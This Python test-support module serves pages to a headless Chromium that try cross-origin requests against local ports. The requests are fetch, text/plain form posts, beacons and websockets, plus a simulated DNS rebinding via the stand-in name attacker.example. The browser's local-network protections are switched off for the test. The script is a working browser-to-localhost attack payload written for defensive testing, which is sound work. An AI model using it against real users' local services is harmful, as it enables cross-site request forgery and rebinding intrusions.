"""Web pages that attack local ports, and servers that present them to a browser under foreign names."""

import asyncio
import json
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from dataclasses import asdict, dataclass, field
from pathlib import Path

from tests.support.chromium import CHROMIUM

ATTACKER = "attacker.example"
"""A name that the browser resolves to loopback, as after an attacker's name server answers so."""
_WITHIN = 150.0
_SCRIPT = """
const tried = async (a) => {
  if (a.kind === "socket") return new Promise((resolve) => {
    const socket = new WebSocket(a.url);
    socket.onopen = () => { socket.send(a.body); resolve("open"); };
    socket.onerror = () => resolve("refused");
  });
  if (a.kind === "form") return new Promise((resolve) => {
    const form = document.createElement("form"), frame = document.createElement("iframe");
    const [name, value] = a.body.split("=");
    frame.name = form.target = "f" + Math.random();
    Object.assign(form, {action: a.url, method: "post", enctype: "text/plain"});
    form.append(Object.assign(document.createElement("input"), {name, value}));
    document.body.append(frame, form);
    frame.onload = () => resolve("loaded");
    form.submit();
  });
  const blob = new Blob([a.body], {type: a.type});
  if (a.kind === "beacon") return navigator.sendBeacon(a.url, blob) ? "queued" : "not sent";
  const csrf = (document.cookie.match(/_csrf=([^;]*)/) || [])[1];
  const headers = {...a.headers, ...(a.type && {"content-type": a.type}), ...(csrf && {"x-csrf-token": csrf})};
  const reply = await fetch(a.url, {method: a.method, mode: a.kind, headers, body: a.body || undefined});
  return reply.type === "opaque" ? "sent, reply hidden" : reply.status + " " + (await reply.text()).slice(0, 100);
};
(async () => {
  const results = {};
  for (const a of ATTEMPTS) {
    const late = new Promise((give) => setTimeout(() => give("no answer"), 20000));
    results[a.name] = await Promise.race([late, tried(a).catch((error) => String(error))]);
  }
  await fetch(REPORT, {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
  if (NEXT) location.href = NEXT;
})();
"""


@dataclass(frozen=True)
class Attempt:
    """One request of a page: ``kind`` is a fetch mode, or ``form``, ``beacon`` or ``socket``."""

    name: str
    kind: str
    url: str
    body: str = ""
    method: str = "POST"
    type: str = "text/plain"
    headers: dict[str, str] = field(default_factory=dict)


@dataclass(eq=False)
class Page:
    """A page on a port of its own. All other requests there go to ``target``, as after DNS rebinding."""

    target: int | None = None
    host: str = "127.0.0.1"
    attempts: Sequence[Attempt] = ()
    port: int = 0
    siblings: "Sequence[Page]" = ()
    """All pages; the first collects the reports, since a connection here may already lead to the target."""
    met: dict[str, str] = field(default_factory=dict)
    reported: asyncio.Event = field(default_factory=asyncio.Event)

    @property
    def base(self) -> str:
        return f"http://{self.host}:{self.port}"

    async def serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = await reader.readuntil(b"\r\n\r\n")
            if head.startswith(b"GET /page"):
                await self._answer(writer, self._html())
            elif head.startswith(b"POST /report"):
                length = next(line for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:"))
                page = self.siblings[int(head.split()[1].rsplit(b"/", 1)[1])]
                page.met = json.loads(await reader.readexactly(int(length.split(b":")[1])))
                page.reported.set()
                await self._answer(writer, "")
            elif self.target is not None:
                await _forwarded(head, reader, writer, self.target)
        except (asyncio.IncompleteReadError, ConnectionError):
            pass
        finally:
            writer.close()

    async def _answer(self, writer: asyncio.StreamWriter, body: str) -> None:
        content = body.encode()
        head = (
            f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(content)}\r\nConnection: close\r\n\r\n"
        )
        writer.write(head.encode() + content)
        await writer.drain()

    def _html(self) -> str:
        attempts = json.dumps([asdict(attempt) for attempt in self.attempts]).replace("<", "\\u003c")
        report = f"http://127.0.0.1:{self.siblings[0].port}/report/{self.siblings.index(self)}"
        following = self.siblings[self.siblings.index(self) + 1 :]
        upcoming = f"{following[0].base}/page" if following else ""
        constants = f"const ATTEMPTS = {attempts}, REPORT = {report!r}, NEXT = {upcoming!r};"
        return f"<!doctype html><body><script>{constants}{_SCRIPT}</script>"


async def _forwarded(head: bytes, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, port: int) -> None:
    far_reader, far_writer = await asyncio.open_connection("127.0.0.1", port)
    far_writer.write(head)

    async def pump(source: asyncio.StreamReader, sink: asyncio.StreamWriter) -> None:
        while data := await source.read(65_536):
            sink.write(data)
            await sink.drain()
        sink.close()

    await asyncio.gather(pump(reader, far_writer), pump(far_reader, writer), return_exceptions=True)


@asynccontextmanager
async def served(*pages: Page) -> AsyncIterator[None]:
    """Serve pages on free ports of loopback."""
    servers = [await asyncio.start_server(page.serve, "127.0.0.1", page.port) for page in pages]
    for page, server in zip(pages, servers, strict=True):
        page.port, page.siblings = server.sockets[0].getsockname()[1], pages
    try:
        yield
    finally:
        for server in servers:
            server.close()


async def browse(profile: Path, *pages: Page) -> dict[str, str]:
    """Open pages in a real browser, one after the other, and return the result of each attempt."""
    browser = await asyncio.create_subprocess_exec(
        *(str(CHROMIUM), "--headless=new", "--no-sandbox", "--disable-gpu", f"--user-data-dir={profile}"),
        *("--no-first-run", "--disable-background-networking", "--disable-component-update"),
        # The worst case: a browser without the newer protection of local networks against web pages.
        "--disable-features=LocalNetworkAccessChecks,HttpsUpgrades,HttpsFirstBalancedModeAutoEnable",
        f"--host-resolver-rules=MAP {ATTACKER} 127.0.0.1",
        f"{pages[0].base}/page",
        stdout=asyncio.subprocess.DEVNULL,
        stderr=asyncio.subprocess.DEVNULL,
    )
    try:
        async with asyncio.timeout(_WITHIN):
            for page in pages:
                await page.reported.wait()
        return {name: outcome for page in pages for name, outcome in page.met.items()}
    finally:
        browser.terminate()
        await browser.wait()
